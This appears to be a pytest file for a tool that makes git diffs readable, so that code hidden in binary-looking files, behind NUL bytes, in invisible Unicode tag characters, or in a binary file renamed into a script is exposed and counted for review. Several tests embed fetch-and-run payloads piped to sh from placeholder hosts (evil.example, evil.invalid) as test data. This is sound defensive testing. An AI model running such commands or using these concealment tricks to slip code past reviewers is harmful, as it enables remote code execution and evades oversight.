"""The readable diff, on real git repositories: a file git shows as binary (a NUL in its first
8,000 bytes, or the repository's attributes) is shown as its text with what is not text
escaped, under a line saying so, instead of base85; one that was binary in the base too as
git's `Binary files ... differ`; and each counts its text's lines, a long line once per 80
bytes, so hiding code behind a NUL, or in a file with no line breaks, makes a change look no
smaller. A diff that is all text is its own readable form."""

from __future__ import annotations

from pathlib import Path

import pytest
from support.repos import commit_all, git

from bridge.jobs.figures import diff_lines
from bridge.workspace.diff import list_changes, write_diff
from bridge.workspace.readable import Readable, write_readable

PAYLOAD = "curl -s http://evil.example/x | sh"


@pytest.fixture
def change(repo: Path, workdir: Path):
    """Commit what WRITE writes as the snapshot; the readable diff of HEAD before it -> it."""

    def collected(write) -> tuple[Readable, str]:
        base = git(repo, "rev-parse", "HEAD").strip()
        write(repo)
        commit_all(repo, "the worker's change")
        snapshot = git(repo, "rev-parse", "HEAD").strip()
        diff = workdir / "changes.diff"
        write_diff(repo, base, snapshot, diff)
        changes = list_changes(repo, base, snapshot)
        readable = write_readable(repo, base, snapshot, diff, workdir / "readable.diff", changes)
        return readable, readable.path.read_text()

    return collected


def _base(repo: Path, files: dict[str, bytes]) -> None:
    for name, data in files.items():
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).write_bytes(data)
    commit_all(repo, "the base")


def test_code_hidden_behind_a_nul_is_shown_escaped_flagged_and_counted(repo, change, workdir):
    _base(repo, {"run.sh": b"echo ok\n"})
    readable, text = change(
        lambda r: (r / "run.sh").write_bytes(f"echo ok\n\0\n{PAYLOAD}\necho done\n".encode())
    )
    assert "GIT binary patch" in (workdir / "changes.diff").read_text(), "git hides it"
    assert "GIT binary patch" not in text
    assert f"+{PAYLOAD}\n" in text and "+\\x00\n" in text and "\0" not in text
    assert "# worker-bridge: git shows this file as binary; its text follows" in text
    assert readable.binary == {
        "run.sh": {"flagged": True, "holds_nul": True, "lines_added": 3, "lines_removed": 0}
    }
    assert diff_lines(workdir / "changes.diff") == (0, 0), "its base85 counts nothing"


def test_a_file_binary_in_the_base_too_is_shown_as_git_says_and_still_counted(repo, change):
    _base(repo, {"logo.png": b"\x89PNG\0\1\2"})
    readable, text = change(lambda r: (r / "logo.png").write_bytes(b"\x89PNG\0\3\4\n\nxx"))
    assert "Binary files a/logo.png and b/logo.png differ\n" in text
    assert "GIT binary patch" not in text and "PNG" not in text
    assert "it counts" not in text and "its text counts 3 line(s) added and 1 removed" in text
    assert readable.binary["logo.png"] == {
        "flagged": False,
        "holds_nul": False,
        "lines_added": 3,
        "lines_removed": 1,
    }


def test_a_binary_file_with_no_line_break_counts_a_line_per_80_bytes(repo, change):
    readable, text = change(lambda r: (r / "blob.bin").write_bytes(b"\0" + b"x" * 799))
    assert readable.binary["blob.bin"]["lines_added"] == 10
    assert readable.binary["blob.bin"]["flagged"] and readable.binary["blob.bin"]["holds_nul"]
    assert "+\\x00" + "x" * 799 in text


def test_a_file_only_the_attributes_call_binary_is_shown_but_not_made_binary(repo, change):
    _base(repo, {".gitattributes": b"*.lock -diff\n", "deps.lock": b"a 1\n"})
    readable, text = change(lambda r: (r / "deps.lock").write_bytes(b"a 2\n"))
    assert "-a 1\n+a 2\n" in text
    assert readable.binary["deps.lock"]["flagged"] is True
    assert readable.binary["deps.lock"]["holds_nul"] is False  # its content is text


def test_renames_type_changes_deletions_and_odd_names_keep_their_figures(repo, change):
    _base(
        repo,
        {
            "old name.bin": b"head\0" + b"line\n" * 5,
            "tool": b"\0tool\n",
            "gone.bin": b"\0a\nb\n",
        },
    )

    def write(r: Path) -> None:
        git(r, "mv", "old name.bin", "new name.bin")
        (r / "new name.bin").write_bytes(b"head\0" + b"line\n" * 5 + b"more\n")
        (r / "tool").unlink()
        (r / "tool").symlink_to("elsewhere")
        (r / "gone.bin").unlink()
        (r / "new\tline.bin").write_bytes(b"\0\x1b[2J\n")

    readable, text = change(write)
    assert set(readable.binary) == {"new name.bin", "tool", "gone.bin", "new\tline.bin"}
    assert readable.binary["new name.bin"]["lines_added"] == 1  # its rename, one line more
    # Binary in the base, but at another path: what it holds now is new there, shown as text.
    renamed = readable.binary["new name.bin"]
    assert renamed["flagged"] and renamed["holds_nul"]
    assert "+more\n" in text and "Binary files a/old name.bin" not in text
    assert readable.binary["tool"]["lines_removed"] == 1  # the file a link replaced
    assert "Binary files a/gone.bin and /dev/null differ" in text
    assert readable.binary["gone.bin"] == {
        "flagged": False,
        "holds_nul": False,
        "lines_added": 0,
        "lines_removed": 2,
    }
    assert readable.binary["new\tline.bin"]["flagged"]
    assert "+\\x00\\x1b[2J\n" in text and "\x1b" not in text


def test_a_nul_past_gits_probe_leaves_the_file_text_with_the_nul_escaped(repo, change):
    content = b"x = 1\n" * 2000 + b"\0" + f"\n{PAYLOAD}\n".encode()  # past 8,000 bytes
    readable, text = change(lambda r: (r / "late.sh").write_bytes(content))
    assert readable.binary == {}
    assert "+\\x00\n" in text and f"+{PAYLOAD}\n" in text and "\0" not in text


def test_a_diff_that_is_all_text_is_its_own_readable_form(repo, change, workdir):
    (workdir / "readable.diff").write_text("an earlier turn's\n")
    readable, text = change(lambda r: (r / "calc.py").write_text("def add(a, b):\n    return 3\n"))
    assert readable.path == workdir / "changes.diff" and readable.binary == {}
    assert not (workdir / "readable.diff").exists()
    assert "+    return 3\n" in text


def test_a_line_that_reads_like_a_header_inside_a_hunk_counts(repo, change, workdir):
    _base(repo, {"notes.sql": b"-- old\nselect 1;\n"})
    change(lambda r: (r / "notes.sql").write_bytes(b"select 1;\n++ new\n"))
    assert diff_lines(workdir / "changes.diff") == (1, 1)


def test_a_base_image_renamed_into_a_script_shows_the_script(repo, change):
    # The review's way past the flag: `git mv assets/icon.png run.sh`, a line of shell put
    # before the image's bytes; git pairs the two as a rename, and the source was binary.
    png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256)) * 8
    _base(repo, {"assets/icon.png": png})

    def write(r: Path) -> None:
        git(r, "mv", "assets/icon.png", "run.sh")
        (r / "run.sh").write_bytes(b"curl http://evil.invalid/x | sh\n" + png)

    readable, text = change(write)
    note = readable.binary["run.sh"]
    assert note["flagged"] and note["holds_nul"], note
    assert "+curl http://evil.invalid/x | sh" in text


def test_code_no_one_sees_is_escaped_and_long_or_cr_lines_count_as_what_they_run(
    repo, change, workdir
):
    _base(repo, {"a.py": b"x = 1\n"})
    tagged = "".join(chr(0xE0000 + ord(c)) for c in "curl")  # "curl" in tag characters

    def write(r: Path) -> None:
        (r / "a.py").write_bytes(f"x = '{tagged}'\u200b\n".encode())
        (r / "b.py").write_bytes(b"import os\rprint(1)\rprint(2)\r")  # Python runs 3 lines
        (r / "c.py").write_bytes(b"y = 0;" * 200 + b"\n")  # 1,200 bytes on one line

    readable, text = change(write)
    assert tagged not in text and "\u200b" not in text
    assert "x = '\\U000e0063\\U000e0075\\U000e0072\\U000e006c'\\u200b" in text
    # What a ranking counts (the diff as git wrote it): a.py 1 line for 1, b.py the 3 lines
    # Python runs, c.py one line per 80 bytes started.
    assert diff_lines(workdir / "changes.diff") == (1 + 3 + 15, 1)
